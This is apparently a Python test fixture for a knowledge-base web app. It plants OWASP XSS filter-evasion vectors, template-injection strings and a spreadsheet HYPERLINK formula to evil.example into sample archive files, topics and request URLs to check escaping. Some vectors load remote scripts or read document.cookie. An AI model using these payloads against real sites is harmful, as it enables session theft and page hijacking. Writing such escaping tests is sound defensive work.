"""The OWASP filter-evasion vectors, the archive files and topic list that carry them (the `hostile_home`
fixture ingests them), and the pages that show them; for tests/web/test_hostile.py and tests/browser/test_hostile.py."""
from __future__ import annotations

import html
import re
from pathlib import Path
from urllib.parse import quote

from kb import KnowledgeBase
from tests.support.archives import SAMPLE

# From the OWASP XSS Filter Evasion Cheat Sheet, plus attribute break-outs, template and formula injection.
VECTORS = [
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">",
    "<a href=\"jAvAsCrIpT&colon;alert(1)\">X</a>",
    "<details open ontoggle=alert(7)>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "{{7*7}} {% raw %}${7*7}",
    "[click](javascript:alert(1)) ![x](javascript:alert(2))",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "\u2028\u2029<script>alert(1)</script>",
]


def archive_files(root: Path) -> list[Path]:
    """A plain-text e-mail with the vectors in its subject and items, an HTML page with them (escaped, so text)
    in its title, headings and list, and a topic list naming a topic with one."""
    text = root / "hostile.eml"  # (a .txt file this full of tags would be read as the HTML it looks like)
    text.write_text("From: Nicola Kalinsky <nk@example.org>\nSubject: Update from Co-Chairs, 8 June 2020 " + VECTORS[0]
                    + "\nDate: Mon, 8 Jun 2020 09:00:00 +0100\nContent-Type: text/plain; charset=utf-8\n\n"
                    + "".join(f"{n}. {v} gerbils report.\n\n" for n, v in enumerate(VECTORS, start=1))
                    + "Nicola Kalinsky\nUniversity Museums Group\n", encoding="utf-8")
    page = root / "hostile.html"
    page.write_text(
        "<html><body><article><h1 class='entry-title'>Committee news " + html.escape(VECTORS[1]) + "</h1>"
        "<time datetime='2020-06-09'>9 June 2020</time><div class='entry-content'>"
        + "".join(f"<h3>{html.escape(v[:60])}</h3><p>Hamsters and {html.escape(v)} again.</p>" for v in VECTORS[:12])
        + "<ol>" + "".join(f"<li>{html.escape(v)} voles.</li>" for v in VECTORS[12:]) + "</ol>"
        "<p>Jo Bloggs<br>Regional Museums Network</p></div></article></body></html>", encoding="utf-8")
    return [SAMPLE, text, page]


TOPICS = """
[[topic]]
name = "Gerbils <script>alert('topic')</script>"
slug = "gerbils"
description = "Small animals <img src=x onerror=alert('description')> and their keepers."
terms = ["gerbil", "gerbils", "hamster", "hamsters", "vole", "voles"]
"""


def hostile_items(home: Path) -> list:
    return [i for i in KnowledgeBase(home).export() if re.search(r"gerbils report|Hamsters and|voles\.", i.text)]


def pages(home: Path) -> list[str]:
    """Every kind of page, reached with hostile content and hostile requests."""
    items = hostile_items(home)
    urls = ["/", "/updates", "/topics", "/topics/gerbils", "/search?q=gerbils", "/search?q=hamsters&sort=date",
            "/search?q=what+was+said+about+gerbils", "/search?topic=gerbils", "/search?q=voles&page=2",
            "/search?q=gerbils&page=2", "/search?q=gerbils&page=3", "/search?q=gerbils&page=4"]
    urls += [f"/items/{i.id}" for i in items] + sorted({f"/updates/{i.update_id}" for i in items})
    for v in VECTORS:
        q = quote(v, safe="")
        urls += [f"/search?q={q}", f"/search?q=gerbils&topic={q}", f"/search?q=x&from={q}", f"/search?sort={q}",
                 f"/search?page={q}", f"/items/{q}", f"/updates/{q}", f"/topics/{q}"]
    return urls
